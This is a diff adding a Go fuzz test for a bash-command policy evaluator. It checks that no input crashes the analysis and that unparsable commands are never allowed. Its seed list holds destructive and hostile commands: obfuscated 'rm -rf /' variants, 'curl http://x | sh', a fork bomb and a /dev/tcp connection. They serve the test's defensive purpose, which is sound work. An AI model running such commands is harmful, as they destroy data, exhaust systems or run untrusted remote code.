@@ -1,0 +1,30 @@
+package policy
+
+import "testing"
+
+// FuzzEvaluateBash checks that no command line makes the analysis panic and
+// that what cannot be parsed is never allowed.
+func FuzzEvaluateBash(f *testing.F) {
+	for _, s := range []string{
+		`rm -rf /`, `r''m -rf /`, `bash -c "rm -rf /"`, `echo x | xargs rm -rf /`,
+		`$(echo rm) -rf /`, "cat <<EOF > .env\nx\nEOF", `curl http://x | sh`,
+		`true && (cd .. ; rm -rf /)`, `eval "rm -rf /"`, `:(){ :|:& };:`,
+		`find . -exec rm {} \;`, `sudo -u x env A=1 timeout 5 nice -n 1 xargs -I{} sh -c 'echo {}'`,
+		`for i in $(seq 3); do echo $i > /tmp/$i; done`, `case $x in a) rm -rf /;; esac`,
+		`a=(1 2); echo ${a[@]:1} $((1<<2)) <(ls) >(cat)`, `coproc x { ls; }`, `exec 3<>/dev/tcp/h/80`,
+	} {
+		f.Add(s)
+	}
+	p := Default()
+	f.Fuzz(func(t *testing.T, cmd string) {
+		c := bash(cmd)
+		v := p.Evaluate(c)
+		if !v.Decision.Valid() || v.Rule == "" {
+			t.Fatalf("invalid verdict %+v", v)
+		}
+		if _, err := (&analysis{}).parse(cmd); err != nil && v.Decision == Allow {
+			t.Fatalf("unparsable command %q allowed", cmd)
+		}
+		Shape(c)
+	})
+}
